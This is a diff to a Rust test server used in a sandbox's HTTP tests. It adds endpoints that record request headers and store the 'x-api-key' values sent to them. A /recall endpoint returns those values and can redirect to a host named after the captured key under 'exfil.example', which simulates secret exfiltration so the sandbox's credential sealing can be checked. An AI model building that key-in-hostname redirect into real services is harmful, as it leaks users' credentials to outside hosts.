@@ -1,5 +1,7 @@
 //! A small HTTP server on loopback for the sandbox's HTTP tests: echoes, redirects, big,
-//! slow, endless and trickling answers, and a count of what it received.
+//! slow, endless and trickling answers, a count of what it received, the headers each
+//! `/headers` request arrived with, and sealed values kept (`/keep`) to be returned later
+//! (`/recall`), as a server storing what it is sent would.
 
 use std::collections::BTreeMap;
 use std::net::SocketAddr;
@@ -11,13 +13,17 @@ use axum::Router;
 use axum::extract::{Query, State};
 use axum::http::{HeaderMap, StatusCode, header};
 use axum::response::{IntoResponse, Response};
-use axum::routing::get;
+use axum::routing::{any, get};
 
 #[derive(Default)]
 struct Counts {
     requests: AtomicUsize,
     /// The `x-api-key` header of the last `/echo` request: what a sealed header carried.
     last_api_key: Mutex<Option<String>>,
+    /// The headers of every `/headers` request, in the order received.
+    received: Mutex<Vec<Vec<(String, String)>>>,
+    /// Every distinct non-empty `x-api-key` sent to `/keep`.
+    kept: Mutex<Vec<String>>,
 }
 
 /// A running server; it stops when dropped.
@@ -42,6 +48,9 @@ impl TestServer {
             .route("/slow", get(slow))
             .route("/endless", get(endless))
             .route("/trickle", get(trickle))
+            .route("/headers", any(record_headers))
+            .route("/keep", get(keep))
+            .route("/recall", get(recall))
             .with_state(counts.clone());
         let task = tokio::spawn(async move {
             axum::serve(listener, app).await.ok();
@@ -69,6 +78,16 @@ impl TestServer {
     /// The `x-api-key` header `/echo` last received.
     pub fn last_api_key(&self) -> Option<String> {
         self.counts.last_api_key.lock().unwrap().clone()
+    }
+
+    /// The headers of each request `/headers` received (names lowercase, as parsed).
+    pub fn received_headers(&self) -> Vec<Vec<(String, String)>> {
+        self.counts.received.lock().unwrap().clone()
+    }
+
+    /// The values `/keep` was sent in `x-api-key`.
+    pub fn kept(&self) -> Vec<String> {
+        self.counts.kept.lock().unwrap().clone()
     }
 }
 
@@ -167,4 +186,82 @@ async fn trickle(
         ))
     });
     axum::body::Body::from_stream(bytes).into_response()
+}
+
+/// Records the headers the request arrived with (Host among them).
+async fn record_headers(State(counts): State<Arc<Counts>>, headers: HeaderMap) -> &'static str {
+    counts.requests.fetch_add(1, Ordering::SeqCst);
+    let seen = headers
+        .iter()
+        .map(|(k, v)| {
+            (
+                k.to_string(),
+                String::from_utf8_lossy(v.as_bytes()).into_owned(),
+            )
+        })
+        .collect();
+    counts.received.lock().unwrap().push(seen);
+    "recorded"
+}
+
+/// Keeps the `x-api-key` it is sent, for `/recall` to return to a later request.
+async fn keep(State(counts): State<Arc<Counts>>, headers: HeaderMap) -> &'static str {
+    counts.requests.fetch_add(1, Ordering::SeqCst);
+    let key = headers
+        .get("x-api-key")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or_default();
+    let mut kept = counts.kept.lock().unwrap();
+    if !key.is_empty() && !kept.iter().any(|k| k == key) {
+        kept.push(key.to_string());
+    }
+    "kept"
+}
+
+/// Every kept value, in a header each (`x-recalled-N`) and in the body: `?case=upper` or
+/// `lower` changes their ASCII case, `?chunk=N` sends the body N bytes at a time;
+/// `?redirect=1` redirects instead to a host named after the first kept value.
+async fn recall(
+    State(counts): State<Arc<Counts>>,
+    Query(query): Query<BTreeMap<String, String>>,
+) -> Response {
+    counts.requests.fetch_add(1, Ordering::SeqCst);
+    let case = |v: &str| match query.get("case").map(String::as_str) {
+        Some("upper") => v.to_ascii_uppercase(),
+        Some("lower") => v.to_ascii_lowercase(),
+        _ => v.to_string(),
+    };
+    let kept: Vec<String> = counts
+        .kept
+        .lock()
+        .unwrap()
+        .iter()
+        .map(|v| case(v))
+        .collect();
+    if query.contains_key("redirect") {
+        let to = format!(
+            "http://{}.exfil.example/",
+            kept.first().cloned().unwrap_or_default()
+        );
+        return (StatusCode::FOUND, [(header::LOCATION, to)]).into_response();
+    }
+    let mut headers = HeaderMap::new();
+    for (i, value) in kept.iter().enumerate() {
+        headers.insert(
+            header::HeaderName::try_from(format!("x-recalled-{i}")).unwrap(),
+            value.parse().unwrap(),
+        );
+    }
+    let body = format!("recalled {}", kept.join(" ")).into_bytes();
+    let chunk = query
+        .get("chunk")
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(body.len())
+        .max(1);
+    let chunks: Vec<Result<axum::body::Bytes, std::io::Error>> = body
+        .chunks(chunk)
+        .map(|c| Ok(axum::body::Bytes::copy_from_slice(c)))
+        .collect();
+    let body = axum::body::Body::from_stream(futures_util::stream::iter(chunks));
+    (headers, body).into_response()
 }
